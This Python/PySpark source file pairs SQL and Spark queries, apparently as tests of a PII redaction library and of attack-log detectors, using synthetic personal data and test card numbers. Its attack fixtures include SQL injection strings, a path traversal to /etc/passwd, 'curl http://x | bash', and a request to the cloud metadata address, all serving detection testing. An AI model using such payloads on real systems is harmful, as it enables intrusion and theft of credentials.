"""Redaction, privacy and detection queries."""

from __future__ import annotations

from pyspark.sql import functions as F

from ..functions import redaction
from ..functions.redaction import LEVELS, PATTERNS, CustomPattern, Privacy, Redactor
from ..operators import detection
from ..session import read_table, spread
from .lines import LINES_SQL, log_lines
from .registry import query


def _quoted(text: str) -> str:
    return text.replace("'", "''")


def redact_sql(column: str, level: str, extra: tuple = ()) -> str:
    rules = [(k, p) for k, ps in PATTERNS.items() if k in LEVELS[level] for p, _ in ps] + list(extra)
    for kind, pattern in rules:
        column = f"regexp_replace({column}, '(?i){_quoted(pattern)}', '[REDACTED:{kind}]', 'g')"
    return column


#: Lines that hold every family, from events; documents have some of their own.
PII_SQL = """pii AS (SELECT event_id AS id, CASE event_id % 6 WHEN 0 THEN 'user=u' || user_id || ' mail u' || user_id || '@example.com from 10.0.0.' || (user_id % 200)
 WHEN 1 THEN 'call 555-' || (100 + user_id % 800) || '-' || (1000 + event_id % 8000) || ' ssn 123-45-' || (1000 + event_id % 8000)
 WHEN 2 THEN 'card 4111-1111-1111-' || (1000 + event_id % 8000) || ' password=p' || user_id || ' ok'
 WHEN 3 THEN 'api_key=k' || user_id || ' token: t' || user_id || ' bearer abc' || user_id WHEN 4 THEN 'dob: 1/2/19' || (10 + user_id % 80) || ' login=l' || user_id || ' secret=''s' || user_id || ''''
 ELSE event_type || ' is fine' END AS text FROM events)"""


def pii_lines(spark, sf_dir):
    return read_table(spark, sf_dir, "events").selectExpr(
        "event_id AS id",
        """CASE event_id % 6 WHEN 0 THEN concat('user=u', user_id, ' mail u', user_id, '@example.com from 10.0.0.', user_id % 200)
        WHEN 1 THEN concat('call 555-', 100 + user_id % 800, '-', 1000 + event_id % 8000, ' ssn 123-45-', 1000 + event_id % 8000)
        WHEN 2 THEN concat('card 4111-1111-1111-', 1000 + event_id % 8000, ' password=p', user_id, ' ok')
        WHEN 3 THEN concat('api_key=k', user_id, ' token: t', user_id, ' bearer abc', user_id)
        WHEN 4 THEN concat('dob: 1/2/19', 10 + user_id % 80, ' login=l', user_id, ' secret=', chr(39), 's', user_id, chr(39)) ELSE concat(event_type, ' is fine') END AS text""",
    )


def _level_query(level: str) -> None:
    sql = f"WITH {PII_SQL} SELECT id, {redact_sql('text', level)} AS redacted FROM pii"
    query(sql, name=f"redact_{level}")(lambda spark, sf_dir: pii_lines(spark, sf_dir).select("id", Redactor(level).redact(F.col("text")).alias("redacted")))


for _level in ("none", "minimal", "standard", "strict", "paranoid"):
    _level_query(_level)


@query(f"SELECT doc_id, {redact_sql('text', 'standard')} AS redacted FROM documents")
def redact_documents(spark, sf_dir):
    return spread(read_table(spark, sf_dir, "documents").select("doc_id", "text")).select("doc_id", Redactor("standard").redact(F.col("text")).alias("redacted"))


@query(f"WITH {PII_SQL} SELECT id, {redact_sql('text', 'minimal', (('custom', '555-[0-9]+'),))} AS redacted FROM pii")
def redact_custom(spark, sf_dir):
    r = Redactor("minimal", custom=[CustomPattern("desk phone", "555-[0-9]+")])
    return pii_lines(spark, sf_dir).select("id", r.redact(F.col("text")).alias("redacted"))


@query(f"""WITH {PII_SQL} SELECT id, CASE WHEN id % 6 = 0 THEN replace(text, regexp_extract(text, 'u[0-9]+@example.com'), '[REDACTED:email]:' || substr(sha256(regexp_extract(text, 'u[0-9]+@example.com')), 1, 8)) ELSE text END AS redacted FROM pii""")
def redact_hash(spark, sf_dir):
    return pii_lines(spark, sf_dir).select("id", Redactor(kinds=["email"], hashed=True).redact(F.col("text")).alias("redacted"))


@query(f"""WITH {PII_SQL} SELECT id, CASE id % 6 WHEN 0 THEN regexp_replace(replace(text, regexp_extract(text, 'u[0-9]+@example.com'), repeat('*', len(regexp_extract(text, 'u[0-9]+@')) - 1) || '@***********'), '[0-9.]+$', 'xxx.xxx.xxx.xxx')
WHEN 1 THEN 'call ***-***-**** ssn ***********' WHEN 2 THEN 'card 4111-1111-1111-' || regexp_extract(text, '1111-([0-9]{{4}}) ', 1) || ' ' || repeat('*', len(regexp_extract(text, 'password=p[0-9]+'))) || ' ok'
WHEN 4 THEN regexp_replace(text, 'secret=.*$', repeat('*', len(regexp_extract(text, 'secret=.*$')))) ELSE text END AS redacted FROM pii""")
def redact_preserve(spark, sf_dir):
    r = Redactor(kinds=["email", "phone", "ssn", "credit_card", "ip_address", "password"], keep_format=True)
    return pii_lines(spark, sf_dir).select("id", r.redact(F.col("text")).alias("redacted"))


def _count_sql():
    out, prior = {}, "text"
    for kind in [k for k in PATTERNS if k in LEVELS["standard"]]:
        parts = []
        for pattern, _ in PATTERNS[kind]:
            p = f"'(?i){_quoted(pattern)}'"
            parts.append(f"len(regexp_extract_all({prior}, {p}))")
            prior = f"regexp_replace({prior}, {p}, '[REDACTED:{kind}]', 'g')"
        out[kind] = " + ".join(parts)
    return out


@query(f"WITH {PII_SQL}, c AS (SELECT " + ", ".join(f"{e} AS n_{k}" for k, e in _count_sql().items()) + " FROM pii) SELECT " + ", ".join(f"sum(n_{k})::BIGINT AS n_{k}" for k in _count_sql()) + ", count(*) AS n_lines FROM c")
def pii_counts(spark, sf_dir):
    counted = Redactor("standard").counts(pii_lines(spark, sf_dir), "text")
    return counted.agg(*[F.sum(f"n_{k}").cast("long").alias(f"n_{k}") for k in _count_sql()], F.count("*").alias("n_lines"))


@query(f"""WITH {PII_SQL} SELECT id, sha256(text) AS original_hash, CASE id % 3 WHEN 0 THEN '' WHEN 1 THEN '[HASH:' || substr(sha256(text), 1, 16) || ']' ELSE {redact_sql('text', 'standard')} END AS sanitized_text FROM pii""")
def sanitize_policy(spark, sf_dir):
    text = F.col("text")
    by = {0: Privacy(level="maximum"), 1: Privacy(raw_policy="hash_only"), 2: Privacy()}
    out = by[2].sanitize(text)
    for i in (1, 0):
        out = F.when(F.col("id") % 3 == i, by[i].sanitize(text)).otherwise(out)
    return pii_lines(spark, sf_dir).select("id", out.alias("s")).select("id", "s.*")


@query("SELECT * FROM (VALUES ('never_store', false), ('store_embeddings_only', false), ('store_redacted', true), ('store_all', true)) AS t(mode, can_store)")
def storage_modes(spark, sf_dir):
    modes = ["never_store", "store_embeddings_only", "store_redacted", "store_all"]
    return spark.createDataFrame([(m, Privacy(mode=m).can_store()) for m in modes], "mode string, can_store boolean")


@query("SELECT doc_id, text AS opened, true AS changed, NULL::VARCHAR AS wrong_key FROM documents")
def encrypt_roundtrip(spark, sf_dir):
    key, other = F.lit("0123456789abcdef0123456789abcdef"), F.lit("another key of thirty-two bytes.")
    sealed = read_table(spark, sf_dir, "documents").select("doc_id", "text", redaction.encrypt(F.col("text"), key).alias("sealed"))
    return sealed.select(
        "doc_id", redaction.decrypt(F.col("sealed"), key).alias("opened"), (F.col("sealed") != F.col("text")).alias("changed"), redaction.decrypt(F.col("sealed"), other).alias("wrong_key")
    )


@query("SELECT doc_id, substr(sha256(text), 1, 16) AS key16, substr(sha256(text), 1, 8) AS key8 FROM documents")
def cache_keys(spark, sf_dir):
    return read_table(spark, sf_dir, "documents").select("doc_id", F.substring(F.sha2("text", 256), 1, 16).alias("key16"), F.substring(F.sha2("text", 256), 1, 8).alias("key8"))


ATTACKS_SQL = """attacks AS (SELECT event_id AS id, '{"msg": "' || CASE event_id % 12 WHEN 0 THEN 'q=1 union  select name' WHEN 1 THEN 'GET /../../etc/passwd' WHEN 2 THEN 'body <SCRIPT>x' WHEN 3 THEN 'id=1 or 1=1'
 WHEN 4 THEN 'call system(ls)' WHEN 5 THEN 'curl http://x | bash' WHEN 6 THEN 'init lodash-utils' WHEN 7 THEN 'GET 169.254.169.254/latest' WHEN 8 THEN 'impersonated admin@corp' WHEN 9 THEN 'use /v1/oauth/token' WHEN 10 THEN 'mount /host/var/log'
 ELSE 'ok ' || event_type END || CASE WHEN event_id % 13 = 0 THEN '"' ELSE '"}' END AS line FROM events)"""


def attack_lines(spark, sf_dir):
    return read_table(spark, sf_dir, "events").selectExpr(
        "event_id AS id",
        """concat('{"msg": "', CASE event_id % 12 WHEN 0 THEN 'q=1 union  select name' WHEN 1 THEN 'GET /../../etc/passwd' WHEN 2 THEN 'body <SCRIPT>x' WHEN 3 THEN 'id=1 or 1=1'
        WHEN 4 THEN 'call system(ls)' WHEN 5 THEN 'curl http://x | bash' WHEN 6 THEN 'init lodash-utils' WHEN 7 THEN 'GET 169.254.169.254/latest' WHEN 8 THEN 'impersonated admin@corp' WHEN 9 THEN 'use /v1/oauth/token' WHEN 10 THEN 'mount /host/var/log'
        ELSE concat('ok ', event_type) END, CASE WHEN event_id % 13 = 0 THEN '"' ELSE '"}' END) AS line""",
    )


def _case(column: str, cases: list[tuple[str, str]], otherwise: str) -> str:
    return "CASE " + " ".join(f"WHEN {c.format(x=column)} THEN {v}" for c, v in cases) + f" ELSE {otherwise} END"


@query(f"WITH {ATTACKS_SQL} SELECT id, " + _case("line", [(f"regexp_matches({{x}}, '(?i){_quoted(p)}')", f"'{n}'") for p, n in detection.RULES], "NULL") + " AS threat FROM attacks")
def regex_detect(spark, sf_dir):
    return attack_lines(spark, sf_dir).select("id", detection.threat(F.col("line")).alias("threat"))


_IND = [(f"contains(lower({{x}}), '{i.lower()}')", i) for i, _, _ in detection.INDICATORS]


@query(f"WITH {ATTACKS_SQL} SELECT id, id % 13 <> 0 AND (" + " OR ".join(c.format(x="line") for c, _ in _IND) + ") AS is_novel, CASE WHEN id % 13 = 0 THEN 0.1 ELSE " + _case("line", [(c, f"{s}::DOUBLE") for (c, _), (_, s, _) in zip(_IND, detection.INDICATORS)], "0.12") + " END::DOUBLE AS score, CASE WHEN id % 13 = 0 THEN 'Parse error' ELSE " + _case("line", [(c, f"'{_quoted(r)}'") for (c, _), (_, _, r) in zip(_IND, detection.INDICATORS)], "'Matches baseline patterns'") + " END AS reason FROM attacks")
def indicator_detect(spark, sf_dir):
    return attack_lines(spark, sf_dir).select("id", detection.indicator(F.col("line")).alias("d")).select("id", "d.*")


@query(f"WITH {ATTACKS_SQL}, c AS (SELECT " + _case("line", [(" OR ".join(f"contains(lower({{x}}), '{w}')" for w in ws), f"'{n}'") for n, ws in detection.CATEGORIES], "NULL") + " AS category FROM attacks) SELECT category, count(*) AS n FROM c WHERE category IS NOT NULL GROUP BY category")
def attack_categories(spark, sf_dir):
    c = attack_lines(spark, sf_dir).select(detection.category(F.col("line")).alias("category"))
    return c.where("category is not null").groupBy("category").agg(F.count("*").alias("n"))


@query(f"WITH {LINES_SQL} SELECT CASE event_type WHEN 'error' THEN 'attack' WHEN 'view' THEN 'novel-attack' ELSE 'normal' END AS class, count(*) AS n FROM log_lines GROUP BY 1")
def demo_classes(spark, sf_dir):
    c = F.when(F.col("event_type") == "error", "attack").when(F.col("event_type") == "view", "novel-attack")
    return log_lines(spark, sf_dir).groupBy(detection.demo_class(c).alias("class")).agg(F.count("*").alias("n"))
